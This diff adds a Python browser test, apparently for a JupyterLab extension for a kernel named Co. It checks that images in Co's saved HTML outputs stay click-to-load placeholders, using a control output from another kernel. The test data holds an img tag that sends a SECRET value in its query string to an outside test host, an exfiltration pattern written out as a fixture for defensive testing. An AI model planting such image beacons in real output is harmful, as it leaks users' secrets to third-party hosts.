@@ -16,6 +16,8 @@ answer's table, code and link still render, and so does a figure Co drew.
 from __future__ import annotations
 
 import base64
+import subprocess
+import sys
 import threading
 import time
 from collections.abc import Iterator
@@ -308,3 +310,61 @@ def test_remote_images_wait_for_a_persons_click_in_notebook7(tmp_path: Path) -> 
         finally:
             server.stop()
         assert model.errors == []
+
+
+def test_live_images_a_co_before_placeholders_saved_wait_for_a_click(tmp_path: Path) -> None:
+    """A trusted notebook holding the HTML today's Co saved, live images included.
+
+    The same output without Co's tag (another kernel's) loads its image, as JupyterLab
+    does for any trusted output: the control that the notebook really is trusted and
+    that the listener would hear.
+    """
+    ensure_kernelspec()
+    with outside_host() as outside:
+        root = tmp_path / "notebooks"
+        root.mkdir()
+        notebook = root / "saved.ipynb"
+        nb = nbformat.v4.new_notebook()
+        nb.metadata["kernelspec"] = {"name": "co", "display_name": "Co", "language": "co"}
+
+        def cell(tag: str, metadata: dict[str, Any]) -> Any:
+            html = (
+                f'<div class="co-markdown"><p><strong>{tag}</strong> '
+                f'<img src="http://{outside.host}/{tag}?d={SECRET}" alt="s"></p></div>'
+            )
+            output = nbformat.v4.new_output(
+                "display_data", data={"text/html": html, "text/plain": tag}, metadata=metadata
+            )
+            return nbformat.v4.new_code_cell(f"cell {tag}", outputs=[output])
+
+        nb.cells = [cell("old-co", {"co": {"request": "r1"}}), cell("other-kernel", {})]
+        nbformat.write(nb, notebook)
+        server = start_server(root, base=tmp_path / "jupyter", expose_app=False)
+        try:
+            subprocess.run(
+                [sys.executable, "-m", "jupyter", "trust", str(notebook)],
+                env=server.env,
+                check=True,
+                capture_output=True,
+                timeout=60,
+            )
+            with chromium_page() as page:
+                page.set_default_timeout(60_000)
+                open_notebook(page, server.url(f"lab/tree/{notebook.name}"), idle=False)
+                page.get_by_text("old-co").first.wait_for()
+                deadline = time.monotonic() + 20
+                while "other-kernel" not in outside.hits:
+                    assert time.monotonic() < deadline, f"the control did not load: {outside.hits}"
+                    time.sleep(0.1)
+                settle()
+                assert "old-co" not in outside.hits, "an image Co saved loaded on opening"
+                placeholder = page.locator(".co-remote-image")
+                assert placeholder.count() == 1
+                assert f"/old-co?d={SECRET}" in (placeholder.text_content() or "")
+                placeholder.click()
+                deadline = time.monotonic() + 20
+                while "old-co" not in outside.hits:
+                    assert time.monotonic() < deadline, f"the click loaded nothing: {outside.hits}"
+                    time.sleep(0.1)
+        finally:
+            server.stop()
